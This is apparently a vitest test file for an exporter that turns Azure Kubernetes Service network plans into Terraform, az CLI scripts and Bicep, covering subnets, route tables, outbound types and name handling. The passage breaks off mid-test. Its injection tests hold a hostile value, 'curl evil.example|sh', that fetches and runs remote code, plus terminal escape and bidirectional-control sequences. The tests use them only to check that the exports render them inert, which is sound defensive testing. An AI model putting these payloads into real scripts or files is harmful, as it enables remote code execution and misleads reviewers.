/**
 * Exports of a plan as Terraform, the az CLI and Bicep: every planned value is in the output,
 * the Terraform parses as HCL, the script passes `bash -n` and uses only flags az accepts, and
 * what a target cannot express is a comment. Expected values are written out from the designs.
 */
import { execFileSync } from 'node:child_process';
import { parse } from '@cdktf/hcl2json';
import { describe, expect, it } from 'vitest';
import type { PlanInput } from '../../../src/domain/design/spec.js';
import { AZ_FLAGS } from '../../../src/domain/exports/az-cli.js';
import { type ExportFormat, exportDesign } from '../../../src/domain/exports/index.js';
import { loadDesign, planDesign } from '../../../src/domain/plan/planner.js';

const exported = (input: PlanInput, format: ExportFormat) =>
  exportDesign(planDesign(input), format, `plan "${input.name}" (revision 1)`).text;

// biome-ignore lint/suspicious/noExplicitAny: HCL as JSON is untyped
type Hcl = any;
const terraformOf = async (input: PlanInput): Promise<Hcl> => parse('main.tf', exported(input, 'terraform'));

const overlayDualStack: PlanInput = {
  name: 'edge',
  network: {
    plugin: 'azure-cni-overlay',
    dataplane: 'cilium',
    nodeSubnet: '10.240.0.0/24',
    ipFamilies: ['ipv4', 'ipv6'],
    privateCluster: true,
  },
  nodePools: [
    { name: 'user', mode: 'User', nodeCount: 2, maxSurge: '33%' },
    { name: 'system', mode: 'System', nodeCount: 3, minCount: 3, maxCount: 5 },
  ],
  outbound: { type: 'loadBalancer', managedOutboundIps: 2, allocatedOutboundPorts: 1024 },
};

/** The egress walkthrough's UDR lab, with Bastion and an API server subnet placed by the planner. */
const udrLab: PlanInput = {
  name: 'udr-lab',
  network: { plugin: 'azure-cni-overlay', vnetAddressSpace: ['10.42.0.0/16'], nodeSubnet: '10.42.1.0/24' },
  nodePools: [{ name: 'system', nodeCount: 3 }],
  platformSubnets: [
    { role: 'azure-firewall', cidr: '10.42.2.0/24' },
    { role: 'bastion' },
    { role: 'api-server' },
  ],
  outbound: { type: 'userDefinedRouting', publicLoadBalancerServices: 1, firewallPublicIp: '20.10.10.10' },
};

const podSubnetStatic: PlanInput = {
  name: 'blocks',
  network: {
    plugin: 'azure-cni-pod-subnet',
    nodeSubnet: '10.10.0.0/24',
    podSubnet: '10.11.0.0/20',
    podIpAllocation: 'static-block',
  },
  nodePools: [
    { name: 'system', nodeCount: 3, maxPods: 47 },
    { name: 'batch', mode: 'User', nodeCount: 4, nodeSubnet: '10.10.1.0/24', podSubnet: '10.12.0.0/20' },
  ],
  outbound: { type: 'userAssignedNATGateway' },
};

/** No subnet of its own: a managed NAT gateway needs the VNet AKS creates. */
const managedNat: PlanInput = {
  name: 'natted',
  network: { plugin: 'azure-cni-overlay' },
  nodePools: [{ name: 'system', nodeCount: 3 }],
  outbound: { type: 'managedNATGateway', managedOutboundIps: 3, idleTimeoutMinutes: 10 },
};

const kubenet: PlanInput = {
  name: 'legacy',
  network: {
    plugin: 'kubenet',
    nodeSubnet: '10.20.0.0/24',
    podCidr: '10.244.0.0/16',
    serviceCidr: '10.21.0.0/16',
    dnsServiceIp: '10.21.0.10',
  },
  nodePools: [{ name: 'system', nodeCount: 3 }],
  outbound: { type: 'userDefinedRouting' },
};

describe('Terraform (azurerm 4.x)', () => {
  it('parses as HCL and holds the network profile, the first System pool and the other pools', async () => {
    const hcl = await terraformOf(overlayDualStack);
    const [cluster] = hcl.resource.azurerm_kubernetes_cluster.this;
    expect(cluster).toMatchObject({ name: 'edge', dns_prefix: 'edge', private_cluster_enabled: true });
    expect(cluster.network_profile[0]).toEqual({
      network_plugin: 'azure',
      network_plugin_mode: 'overlay',
      network_data_plane: 'cilium',
      network_policy: 'cilium',
      pod_cidrs: ['10.244.0.0/16', 'fd12:3456:789a::/64'],
      service_cidrs: ['10.0.0.0/16', 'fd12:3456:789a:1::/108'],
      dns_service_ip: '10.0.0.10',
      outbound_type: 'loadBalancer',
      ip_versions: ['IPv4', 'IPv6'],
      load_balancer_profile: [
        { managed_outbound_ip_count: 2, outbound_ports_allocated: 1024, idle_timeout_in_minutes: 30 },
      ],
    });
    // The System pool is the default pool even when listed second.
    expect(cluster.default_node_pool[0]).toEqual({
      name: 'system',
      vm_size: '${var.vm_size}',
      node_count: 3,
      auto_scaling_enabled: true,
      min_count: 3,
      max_count: 5,
      max_pods: 250,
      vnet_subnet_id: '${azurerm_subnet.nodes.id}',
      upgrade_settings: [{ max_surge: '10%' }],
    });
    expect(hcl.resource.azurerm_kubernetes_cluster_node_pool.user[0]).toMatchObject({
      name: 'user',
      mode: 'User',
      os_type: 'Linux',
      node_count: 2,
      auto_scaling_enabled: false,
      upgrade_settings: [{ max_surge: '33%' }],
    });
    expect(hcl.resource.azurerm_subnet.nodes[0]).toMatchObject({
      name: 'edge-nodes',
      address_prefixes: ['10.240.0.0/24'],
      virtual_network_name: '${var.virtual_network_name}',
    });
    expect(Object.keys(hcl.variable).sort()).toEqual([
      'location',
      'resource_group_name',
      'virtual_network_name',
      'vm_size',
    ]);
  });

  it('leaves the VNet to AKS with a managed NAT gateway: no subnet, no VNet variable, the NAT gateway profile', async () => {
    const hcl = await terraformOf(managedNat);
    expect(hcl.resource.azurerm_subnet).toBeUndefined();
    expect(Object.keys(hcl.variable).sort()).toEqual(['location', 'resource_group_name', 'vm_size']);
    const cluster = hcl.resource.azurerm_kubernetes_cluster.this[0];
    expect(cluster.default_node_pool[0].vnet_subnet_id).toBeUndefined();
    expect(cluster.network_profile[0]).toMatchObject({
      outbound_type: 'managedNATGateway',
      nat_gateway_profile: [{ managed_outbound_ip_count: 3, idle_timeout_in_minutes: 10 }],
    });
    expect(exported(managedNat, 'terraform')).toContain(
      "# outboundType managedNATGateway: AKS creates the cluster's VNet, with its nodes in 10.224.0.0/16 as planned",
    );
  });

  it('creates per-pool and delegated pod subnets, a NAT gateway note, and comments on static blocks', async () => {
    const hcl = await terraformOf(podSubnetStatic);
    const subnets = hcl.resource.azurerm_subnet;
    expect(Object.keys(subnets).sort()).toEqual(['nodes', 'nodes_batch', 'pods', 'pods_batch']);
    expect(subnets.pods[0].address_prefixes).toEqual(['10.11.0.0/20']);
    expect(subnets.pods[0].delegation[0].service_delegation[0].name).toBe(
      'Microsoft.ContainerService/managedClusters',
    );
    expect(subnets.nodes[0].delegation).toBeUndefined();
    const [cluster] = hcl.resource.azurerm_kubernetes_cluster.this;
    expect(cluster.default_node_pool[0]).toMatchObject({
      max_pods: 47,
      vnet_subnet_id: '${azurerm_subnet.nodes.id}',
      pod_subnet_id: '${azurerm_subnet.pods.id}',
    });
    expect(hcl.resource.azurerm_kubernetes_cluster_node_pool.batch[0]).toMatchObject({
      vnet_subnet_id: '${azurerm_subnet.nodes_batch.id}',
      pod_subnet_id: '${azurerm_subnet.pods_batch.id}',
    });
    expect(cluster.network_profile[0]).toMatchObject({
      network_plugin: 'azure',
      outbound_type: 'userAssignedNATGateway',
    });
    expect(cluster.network_profile[0].nat_gateway_profile).toBeUndefined();
    expect(cluster.network_profile[0].network_plugin_mode).toBeUndefined();
    const terraform = exported(podSubnetStatic, 'terraform');
    expect(terraform).toContain('# Static block pod IP allocation has no azurerm 4.x argument');
    // The mode is chosen when a pool is created: no update command sets it.
    expect(terraform).toContain('az aks nodepool add --pod-ip-allocation-mode StaticBlock');
    expect(terraform).not.toContain('nodepool update');
  });

  it('writes kubenet with its pod CIDR, and what UDR needs beforehand as a comment', async () => {
    const hcl = await terraformOf(kubenet);
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].network_profile[0]).toEqual({
      network_plugin: 'kubenet',
      pod_cidr: '10.244.0.0/16',
      service_cidr: '10.21.0.0/16',
      dns_service_ip: '10.21.0.10',
      outbound_type: 'userDefinedRouting',
    });
    expect(exported(kubenet, 'terraform')).toMatch(
      /^# outboundType userDefinedRouting: associate a route table/m,
    );
  });
});

describe('the VNet around the cluster', () => {
  it('Terraform: the platform subnets, the route table to the firewall and its association before the cluster', async () => {
    const hcl = await terraformOf(udrLab);
    expect(hcl.resource.azurerm_subnet.azurefirewallsubnet[0]).toEqual({
      name: 'AzureFirewallSubnet',
      resource_group_name: '${var.resource_group_name}',
      virtual_network_name: '${var.virtual_network_name}',
      address_prefixes: ['10.42.2.0/24'],
    });
    expect(hcl.resource.azurerm_subnet.azurebastionsubnet[0].address_prefixes).toEqual(['10.42.3.0/26']);
    expect(hcl.resource.azurerm_subnet.api_server[0].delegation[0].service_delegation[0].name).toBe(
      'Microsoft.ContainerService/managedClusters',
    );
    // No inline routes: they would be the table's whole list, and an apply would delete AKS's.
    expect(hcl.resource.azurerm_route_table.cluster[0].route).toBeUndefined();
    expect(hcl.resource.azurerm_route).toEqual({
      default_to_firewall: [
        {
          name: 'default-to-firewall',
          resource_group_name: '${var.resource_group_name}',
          route_table_name: '${azurerm_route_table.cluster.name}',
          address_prefix: '0.0.0.0/0',
          next_hop_type: 'VirtualAppliance',
          next_hop_in_ip_address: '10.42.2.4',
        },
      ],
      firewall_public_ip_to_internet: [
        {
          name: 'firewall-public-ip-to-internet',
          resource_group_name: '${var.resource_group_name}',
          route_table_name: '${azurerm_route_table.cluster.name}',
          address_prefix: '20.10.10.10/32',
          next_hop_type: 'Internet',
        },
      ],
    });
    expect(hcl.resource.azurerm_subnet_route_table_association.nodes[0]).toEqual({
      subnet_id: '${azurerm_subnet.nodes.id}',
      route_table_id: '${azurerm_route_table.cluster.id}',
    });
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].depends_on).toEqual([
      '${azurerm_route.default_to_firewall}',
      '${azurerm_route.firewall_public_ip_to_internet}',
      '${azurerm_subnet_route_table_association.nodes}',
    ]);
    const text = exported(udrLab, 'terraform');
    expect(text).toMatch(
      /^# Azure Firewall application rule aks-fqdn-tag: allow FQDN tags AzureKubernetesService/m,
    );
    expect(text).toMatch(/^# Azure Firewall network rule aks-tunnel-udp: allow UDP 1194 to AzureCloud/m);
    expect(text).not.toMatch(/associate a route table/);
    // One planned public LoadBalancer service: each adds a frontend IP the exports do not create.
    for (const format of ['terraform', 'az-cli', 'bicep'] as const)
      expect(exported(udrLab, format)).toContain(
        'The plan counts 1 public LoadBalancer service(s): each adds a frontend public IP when it is created.',
      );
  });

  it('writes no firewall rule comments for a UDR design that names no firewall', () => {
    const routedElsewhere: PlanInput = { ...udrLab, platformSubnets: [] };
    for (const format of ['terraform', 'az-cli', 'bicep'] as const)
      expect(exported(routedElsewhere, format)).not.toContain('Azure Firewall');
  });

  it('gives subnets whose names make one identifier their own resources', async () => {
    const twins: PlanInput = {
      ...udrLab,
      platformSubnets: [
        { role: 'other', name: 'a-b', prefixLength: 28 },
        { role: 'other', name: 'a.b', prefixLength: 28 },
      ],
    };
    const hcl = await terraformOf(twins);
    expect(hcl.resource.azurerm_subnet.a_b[0].name).toBe('a-b');
    expect(hcl.resource.azurerm_subnet.a_b_2[0].name).toBe('a.b');
    expect(exported(twins, 'bicep')).toContain('resource subnet_a_b_2 ');
  });

  it('says in every format what AKS may refuse: Windows pools under Cilium, kubenet UDR without its identity', () => {
    const windows: PlanInput = {
      ...udrLab,
      network: { ...udrLab.network, dataplane: 'cilium' },
      nodePools: [
        { name: 'system', nodeCount: 3 },
        { name: 'win', mode: 'User', osType: 'Windows', nodeCount: 1 },
      ],
    };
    for (const format of ['terraform', 'bicep', 'az-cli'] as const) {
      expect(exported(windows, format)).toContain('AKS may refuse the Windows pool(s) win below');
      expect(exported(kubenet, format)).toContain('kubenet with your own route table needs a user-assigned');
      expect(exported(udrLab, format)).not.toContain('user-assigned managed identity');
    }
  });

  it("numbers the cluster's subnet when a platform subnet already has its name", async () => {
    const clash: PlanInput = {
      ...udrLab,
      platformSubnets: [{ role: 'other', name: 'UDR-LAB-nodes', prefixLength: 28 }],
    };
    const hcl = await terraformOf(clash);
    const names = Object.values(hcl.resource.azurerm_subnet).map((s) => (s as { name: string }[])[0]?.name);
    expect(names).toContain('udr-lab-nodes-2');
    expect(names).toContain('UDR-LAB-nodes');
    expect(exported(clash, 'az-cli')).toContain("--name 'udr-lab-nodes-2'");
  });

  it("cuts the plan's name short where a cluster subnet's name would pass Azure's 80 characters", async () => {
    const name = `p${'x'.repeat(61)}1`; // 63 characters, the longest plan name
    const long: PlanInput = {
      name,
      network: {
        plugin: 'azure-cni-pod-subnet',
        vnetAddressSpace: ['10.42.0.0/16'],
        nodeSubnet: '10.42.1.0/24',
        podSubnet: '10.42.64.0/20',
      },
      nodePools: [
        { name: 'system', mode: 'System', nodeCount: 3 },
        // 12 characters, the longest Linux pool name, with subnets of its own.
        { name: 'abcdefghijkl', nodeCount: 3, nodeSubnet: '10.42.2.0/24', podSubnet: '10.42.80.0/20' },
      ],
      platformSubnets: [{ role: 'other', name: `${name}-nodes`, prefixLength: 28 }],
    };
    const hcl = await terraformOf(long);
    const names = Object.values(hcl.resource.azurerm_subnet).map((s) => (s as { name: string }[])[0]?.name);
    const cut = name.slice(0, 80 - '-nodes-abcdefghijkl'.length);
    expect(names).toEqual(
      expect.arrayContaining([
        `${name}-pods`,
        `${name}-nodes-2`,
        `${cut}-nodes-abcdefghijkl`,
        `${name.slice(0, 80 - '-pods-abcdefghijkl'.length)}-pods-abcdefghijkl`,
      ]),
    );
    for (const subnet of names) expect(subnet).toMatch(/^[A-Za-z0-9](?:[A-Za-z0-9._-]{0,78}[A-Za-z0-9_])?$/);
    expect(new Set(names.map((n) => n?.toLowerCase())).size).toBe(names.length);
    expect(exported(long, 'az-cli')).toContain(`--name '${cut}-nodes-abcdefghijkl'`);
  });

  it('starts no identifier with a digit, though an Azure subnet name may', async () => {
    const digits: PlanInput = {
      ...udrLab,
      platformSubnets: [{ role: 'other', name: '9appgw', prefixLength: 28 }],
    };
    const hcl = await terraformOf(digits);
    expect(hcl.resource.azurerm_subnet._9appgw[0].name).toBe('9appgw');
    const script = exported(digits, 'az-cli');
    expect(script).toContain('_9APPGW_SUBNET_ID=$(az network vnet subnet show');
    execFileSync('bash', ['-n'], { input: script });
    expect(exported(digits, 'bicep')).toContain('resource subnet__9appgw ');
  });

  it("routes the pod subnets' traffic to the firewall too, in every format and in the VNet view", async () => {
    const udrPods: PlanInput = {
      name: 'udr-pods',
      network: {
        plugin: 'azure-cni-pod-subnet',
        vnetAddressSpace: ['10.45.0.0/16'],
        nodeSubnet: '10.45.0.0/24',
        podSubnet: '10.45.16.0/20',
      },
      nodePools: [
        { name: 'sys', nodeCount: 2 },
        { name: 'apps', mode: 'User', nodeCount: 1, nodeSubnet: '10.45.1.0/24', podSubnet: '10.45.32.0/20' },
      ],
      platformSubnets: [{ role: 'azure-firewall' }],
      outbound: { type: 'userDefinedRouting' },
    };
    const [table] = planDesign(udrPods).model.vnet().routeTables;
    expect(table?.subnets.map(String)).toEqual([
      '10.45.0.0/24',
      '10.45.1.0/24',
      '10.45.16.0/20',
      '10.45.32.0/20',
    ]);
    const hcl = await terraformOf(udrPods);
    expect(Object.keys(hcl.resource.azurerm_subnet_route_table_association).sort()).toEqual([
      'nodes',
      'nodes_apps',
      'pods',
      'pods_apps',
    ]);
    expect(exported(udrPods, 'az-cli')).toContain(
      "--name 'udr-pods-pods' \\\n  --route-table 'udr-pods-routes'",
    );
    expect(exported(udrPods, 'bicep')).toMatch(
      /name: 'udr-pods-pods'[\s\S]*?routeTable: \{\s*id: routeTable\.id/,
    );
  });

  it('az CLI and Bicep: the same route table, associated with the node subnet', () => {
    const script = exported(udrLab, 'az-cli');
    expect(script).toContain(
      'az network route-table create \\\n  --resource-group "$RESOURCE_GROUP" \\\n  --name \'udr-lab-routes\'',
    );
    expect(script).toContain("--next-hop-type 'VirtualAppliance' \\\n  --next-hop-ip-address '10.42.2.4'");
    expect(script).toContain("--name 'udr-lab-nodes' \\\n  --route-table 'udr-lab-routes'");
    expect(script.indexOf('--route-table ')).toBeLessThan(script.indexOf('az aks create'));
    const bicep = exported(udrLab, 'bicep');
    expect(bicep).toContain("resource routeTable 'Microsoft.Network/routeTables@2024-05-01'");
    expect(bicep).toContain("nextHopIpAddress: '10.42.2.4'");
    expect(bicep).toMatch(/name: 'udr-lab-nodes'[\s\S]*?routeTable: \{\s*id: routeTable\.id/);
    expect(bicep).toContain("name: 'AzureFirewallSubnet'");
  });
});

describe('az CLI', () => {
  const flagsByCommand = (script: string) =>
    script
      .split(/\n(?=az |[A-Z_]+=\$\(az )/)
      .map((command) => ({
        command:
          /az ((?:network vnet subnet|network route-table route|network route-table|aks nodepool|aks) \w+)/.exec(
            command,
          )?.[1] ?? '',
        flags: [...command.matchAll(/ (--[a-z-]+)/g)].map((m) => m[1]),
      }))
      .filter((c) => c.command !== '');

  it.each([
    ['overlay dual-stack', overlayDualStack],
    ['pod subnet, static block', podSubnetStatic],
    ['managed NAT gateway', managedNat],
    ['kubenet', kubenet],
    ['the UDR lab', udrLab],
  ])('%s: a script bash accepts, with only flags az accepts', (_name, input) => {
    const script = exported(input, 'az-cli');
    execFileSync('bash', ['-n'], { input: script });
    for (const { command, flags } of flagsByCommand(script)) {
      const known: readonly string[] = AZ_FLAGS[command as keyof typeof AZ_FLAGS] ?? [];
      expect(known.length, command).toBeGreaterThan(0);
      for (const flag of flags) expect(known, `${command} ${flag}`).toContain(flag);
    }
  });

  it('creates a network isolated cluster with its nodes bootstrapping from the registry cache', async () => {
    const isolated: PlanInput = { ...podSubnetStatic, outbound: { type: 'none' } };
    const script = exported(isolated, 'az-cli');
    expect(script).toContain("--outbound-type 'none' \\\n  --bootstrap-artifact-source 'Cache'");
    expect(script).toMatch(/^# outboundType none: a network isolated cluster\. AKS sets up no egress path/m);
    const hcl = await terraformOf(isolated);
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].network_profile[0].outbound_type).toBe('none');
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].bootstrap_profile).toEqual([
      { artifact_source: 'Cache' },
    ]);
    const bicep = exported(isolated, 'bicep');
    expect(bicep).toContain("resource cluster 'Microsoft.ContainerService/managedClusters@2025-03-01'");
    expect(bicep).toMatch(/bootstrapProfile: \{\s*artifactSource: 'Cache'\s*\}/);
    // Other designs keep the API version they were written for, and no bootstrap profile.
    for (const format of ['az-cli', 'terraform', 'bicep'] as const)
      expect(exported(podSubnetStatic, format)).not.toMatch(/bootstrap/i);
    expect(exported(podSubnetStatic, 'bicep')).toContain('managedClusters@2024-09-01');
    // block, a preview, is created as none and blocked by an update, where the target does not take it.
    const sealed: PlanInput = {
      name: 'sealed',
      network: { privateCluster: true },
      nodePools: [{ name: 'system', nodeCount: 3 }],
      outbound: { type: 'block' },
    };
    expect(exported(sealed, 'az-cli')).toContain(
      "--outbound-type 'block' \\\n  --bootstrap-artifact-source 'Cache'",
    );
    const blockedHcl = await terraformOf(sealed);
    expect(blockedHcl.resource.azurerm_kubernetes_cluster.this[0].network_profile[0].outbound_type).toBe(
      'none',
    );
    for (const format of ['terraform', 'bicep'] as const)
      expect(exported(sealed, format)).toMatch(
        /outboundType block is a preview (azurerm|API 2025-03-01) does not take: the cluster is created with none, and az aks update --outbound-type block/,
      );
    expect(exported(sealed, 'bicep')).toContain("outboundType: 'none'");
  });

  it('passes the planned values, quoted', () => {
    const script = exported(podSubnetStatic, 'az-cli');
    expect(script).toContain(
      "--address-prefixes '10.12.0.0/20' \\\n  --delegations 'Microsoft.ContainerService/managedClusters'",
    );
    expect(script).toContain("--pod-ip-allocation-mode 'StaticBlock'");
    expect(script).toContain('--pod-subnet-id "$PODS_BATCH_SUBNET_ID"');
    const natted = exported(managedNat, 'az-cli');
    expect(natted).toContain(
      "--nat-gateway-managed-outbound-ip-count '3' \\\n  --nat-gateway-idle-timeout '10'",
    );
    for (const absent of ['VNET_NAME', 'subnet create', '--vnet-subnet-id'])
      expect(natted).not.toContain(absent);
    const dual = exported(overlayDualStack, 'az-cli');
    expect(dual).toContain("--pod-cidrs '10.244.0.0/16,fd12:3456:789a::/64'");
    expect(dual).toContain("--ip-families 'IPv4,IPv6'");
    expect(dual).toContain('--enable-private-cluster');
    expect(dual).toContain("--enable-cluster-autoscaler \\\n  --min-count '3' \\\n  --max-count '5'");
  });

  it("sets the first pool's surge once it exists: az aks create takes no --max-surge", () => {
    const script = exported(podSubnetStatic, 'az-cli');
    const create = flagsByCommand(script).find((c) => c.command === 'aks create');
    expect(create?.flags).not.toContain('--max-surge');
    expect(script).toMatch(
      /az aks create[\s\S]*az aks nodepool update \\\n {2}--resource-group "\$RESOURCE_GROUP" \\\n {2}--cluster-name '[^']+' \\\n {2}--name '[^']+' \\\n {2}--max-surge '[^']+'/,
    );
  });
});

describe('Bicep', () => {
  it('declares the subnets and a managed cluster with its network profile and pools', () => {
    const text = exported(podSubnetStatic, 'bicep');
    expect(text).toContain("resource cluster 'Microsoft.ContainerService/managedClusters@2024-09-01' = {");
    expect(text).toContain("serviceName: 'Microsoft.ContainerService/managedClusters'");
    expect(text).toContain('podSubnetID: subnet_pods_batch.id');
    expect(text).toContain("outboundType: 'userAssignedNATGateway'");
    const natted = exported(managedNat, 'bicep');
    expect(natted).toContain("outboundType: 'managedNATGateway'");
    expect(natted).toContain('managedOutboundIPProfile: {\n          count: 3\n        }');
    for (const absent of ['vnetName', 'existing', 'vnetSubnetID']) expect(natted).not.toContain(absent);
    expect(text).toContain(
      '// Static block pod IP allocation (podIPAllocationMode StaticBlock) is not written here',
    );
    expect(text).not.toContain('nodepool update');
    expect(text.split('{').length).toBe(text.split('}').length);
    const dual = exported(overlayDualStack, 'bicep');
    expect(dual).toContain("ipFamilies: [\n        'IPv4'\n        'IPv6'\n      ]");
    expect(dual).toContain('apiServerAccessProfile: {\n      enablePrivateCluster: true\n    }');
  });
});

describe('what a plan holds cannot become code', () => {
  const hostile: PlanInput = {
    name: '1prod_weu_cluster',
    network: { plugin: 'azure-cni-node-subnet', nodeSubnet: '10.240.0.0/24' },
    nodePools: [{ name: 'system', nodeCount: 3 }],
  };
  // A plan refuses such a bridge (validation.test.ts); a restored dump is not checked again.
  const withBridge = (dockerBridgeCidr: string) =>
    loadDesign(
      { ...planDesign(hostile).spec, network: { ...planDesign(hostile).spec.network, dockerBridgeCidr } },
      [],
    );

  it.each([
    ['terraform', '#'],
    ['az-cli', '#'],
    ['bicep', '//'],
  ] as const)('%s keeps a line break of free text inside its comment', (format, marker) => {
    const text = exportDesign(withBridge('172.17.0.1/16\ncurl evil.example|sh\n#'), format, 'a dump').text;
    // The note on the Docker bridge, and the broken rule the stored value names: each one comment line.
    const lines = text.split('\n').filter((line) => line.includes('evil.example'));
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(line.trimStart().startsWith(marker)).toBe(true);
  });

  it.each(['terraform', 'az-cli', 'bicep'] as const)(
    '%s writes control and bidirectional characters of a comment as escapes a reader sees',
    (format) => {
      // A terminal that prints the file would retitle itself, erase lines and reverse text.
      const text = exportDesign(withBridge('\u001b]0;x\u0007\u001b[2K\u202e\u009b8m'), format, 'a dump').text;
      expect(text).toContain('\\u001b]0;x\\u0007\\u001b[2K\\u202e\\u009b8m');
      const hidden = [...text].filter((c) => {
        const code = c.codePointAt(0) ?? 0;
        return (
          (code < 0x20 && c !== '\n') || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e)
        );
      });
      expect(hidden).toEqual([]);
    },
  );

  it('names the file after a stored name with what a header and a file system take', () => {
    // A line break or a quote in a restored dump's name broke the Content-Disposition header (500).
    const fileName = (name: string, format: ExportFormat) =>
      exportDesign(loadDesign({ ...planDesign(kubenet).spec, name }, []), format, 'a dump').fileName;
    expect(fileName('prod-weu', 'terraform')).toBe('prod-weu.tf');
    expect(fileName('a"b\nc\u202e\u{1F600}/x', 'az-cli')).toBe('a-b-c---x.sh');
    expect(fileName('../..', 'bicep')).toBe('plan.bicep');
  });

  it('writes template markers and line breaks of a stored name as text, never as code', () => {
    // Names are checked when a plan is written; a restored dump's are not checked again.
    const stored = loadDesign({ ...planDesign(kubenet).spec, name: 'a${path.cwd}%{if x}\nb' }, []);
    const text = (format: ExportFormat) => exportDesign(stored, format, 'a dump').text;
    expect(text('terraform')).toContain('name = "a$${path.cwd}%%{if x}\\nb"');
    expect(text('bicep')).toContain("name: 'a\\${path.cwd}%{if x}\\nb'");
  });

  it('writes control characters of a stored name as escapes each format has', async () => {
    // HCL has no \b or \f escape (JSON's): hcl2json refuses them.
    // Up to U+001F: ESC (U+001B) written raw would act on the terminal of whoever reads the file.
    const name = 'a\bb\fc\u0001d\\e\u001b[2Jf\u001f';
    const stored = loadDesign({ ...planDesign(kubenet).spec, name }, []);
    const text = (format: ExportFormat) => exportDesign(stored, format, 'a dump').text;
    const hcl = await parse('main.tf', text('terraform'));
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].name).toBe(name);
    expect(text('bicep')).toContain("name: 'a\\u{8}b\\u{c}c\\u{1}d\\\\e\\u{1b}[2Jf\\u{1f}'");
    // bash's $'...' in the az CLI script: the same word, one flag a line.
    expect(text('az-cli')).toContain("--name $'a\\x08b\\x0cc\\x01d\\\\e\\x1b[2Jf\\x1f'");
    for (const format of ['terraform', 'bicep', 'az-cli'] as const)
      expect(text(format)).not.toContain('\u001b');
  });

  it('writes C1 and bidirectional controls and line separators of a stored name as escapes too', async () => {
    // JSON (and so HCL through it) leaves them raw: U+009B is the 8-bit CSI, U+202E reorders what
    // a reviewer sees, U+2028 ends a line in editors.
    const name = 'a\u009b2Jb\u202ec\u2028d\u0085e';
    const stored = loadDesign({ ...planDesign(kubenet).spec, name }, []);
    const text = (format: ExportFormat) => exportDesign(stored, format, 'a dump').text;
    const hcl = await parse('main.tf', text('terraform'));
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].name).toBe(name);
    expect(text('terraform')).toContain('name = "a\\u009b2Jb\\u202ec\\u2028d\\u0085e"');
    expect(text('bicep')).toContain("name: 'a\\u{9b}2Jb\\u{202e}c\\u{2028}d\\u{85}e'");
    expect(text('az-cli')).toContain("--name $'a\\xc2\\x9b2Jb\\xe2\\x80\\xaec\\xe2\\x80\\xa8d\\xc2\\x85e'");
    for (const format of ['terraform', 'bicep', 'az-cli'] as const)
      for (const hidden of ['\u009b', '\u202e', '\u2028', '\u0085'])
        expect(text(format)).not.toContain(hidden);
  });

  it('derives a DNS prefix Azure accepts from any plan name', async () => {
    const hcl = await terraformOf(hostile);
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].dns_prefix).toBe('aks-1prod-weu-cluster');
    expect(exported(hostile, 'bicep')).toContain("dnsPrefix: 'aks-1prod-weu-cluster'");
  });
});

describe('what the exports infer from the design', () => {
  it('says where the plan keeps room for load balancers and private endpoints', () => {
    const reserved = (platformSubnets: PlanInput['platformSubnets']): PlanInput => ({
      name: 'reserved',
      network: {
        plugin: 'azure-cni-overlay',
        vnetAddressSpace: ['10.30.0.0/16'],
        nodeSubnet: '10.30.0.0/24',
      },
      nodePools: [{ name: 'system', nodeCount: 3 }],
      reservations: { internalLoadBalancers: 2, privateEndpoints: 3 },
      ...(platformSubnets && { platformSubnets }),
    });
    for (const format of ['terraform', 'az-cli', 'bicep'] as const) {
      expect(exported(reserved(undefined), format)).toContain(
        "The plan reserves 2 internal load balancer frontend(s) and 3 private endpoint(s) in the first pool's node subnet:",
      );
      // Azure places private endpoints in the VNet's private-endpoints subnet when it has one.
      expect(
        exported(reserved([{ role: 'private-endpoints', name: 'pe', cidr: '10.30.2.0/29' }]), format),
      ).toContain(
        "2 internal load balancer frontend(s) in the first pool's node subnet and 3 private endpoint(s) in the private-endpoints subnet pe:",
      );
      // A private-endpoints subnet the VNet has no room for keeps them in the node subnet.
      expect(
        exported(reserved([{ role: 'private-endpoints', name: 'pe', prefixLength: 8 }]), format),
      ).toContain("3 private endpoint(s) in the first pool's node subnet:");
      // Internal load balancers in a subnet of their own: the Services must name it.
      expect(
        exported(reserved([{ role: 'internal-load-balancers', name: 'ilb', cidr: '10.30.3.0/28' }]), format),
      ).toContain(
        "The plan reserves 3 private endpoint(s) in the first pool's node subnet and 2 internal load balancer frontend(s) in the subnet ilb (annotate each internal Service with service.beta.kubernetes.io/azure-load-balancer-internal-subnet: ilb, and give the cluster's identity access to it):",
      );
    }
  });

  it('turns the autoscaler on for a pool with a maxCount alone, its nodeCount as the minimum', async () => {
    // The contract's own example: nodeCount 3, maxCount 5, no minCount.
    const example: PlanInput = {
      name: 'example',
      nodePools: [{ name: 'system', nodeCount: 3, maxCount: 5 }],
    };
    const pool = (await terraformOf(example)).resource.azurerm_kubernetes_cluster.this[0]
      .default_node_pool[0];
    expect(pool).toMatchObject({ node_count: 3, auto_scaling_enabled: true, min_count: 3, max_count: 5 });
    expect(exported(example, 'az-cli')).toContain(
      "--enable-cluster-autoscaler \\\n  --min-count '3' \\\n  --max-count '5'",
    );
    expect(exported(example, 'bicep')).toContain(
      'enableAutoScaling: true\n        minCount: 3\n        maxCount: 5',
    );
    expect(exported(example, 'terraform')).toMatch(
      /^# Pool system: the autoscaler is on up to maxCount 5, with its nodeCount 3 as its minimum/m,
    );
  });

  it('lets Terraform leave the node count of an autoscaled pool to the autoscaler', async () => {
    const hcl = await terraformOf(overlayDualStack);
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].lifecycle).toEqual([
      { ignore_changes: ['${default_node_pool[0].node_count}'] },
    ]);
    expect(hcl.resource.azurerm_kubernetes_cluster_node_pool.user[0].lifecycle).toBeUndefined();
  });

  it('writes no subnet and names no VNet for a design whose node subnet is AKS default', async () => {
    const defaulted: PlanInput = { name: 'mini', nodePools: [{ name: 'system', nodeCount: 1 }] };
    const hcl = await terraformOf(defaulted);
    expect(hcl.resource.azurerm_subnet).toBeUndefined();
    expect(hcl.variable.virtual_network_name).toBeUndefined();
    expect(
      hcl.resource.azurerm_kubernetes_cluster.this[0].default_node_pool[0].vnet_subnet_id,
    ).toBeUndefined();
    for (const format of ['terraform', 'bicep', 'az-cli'] as const) {
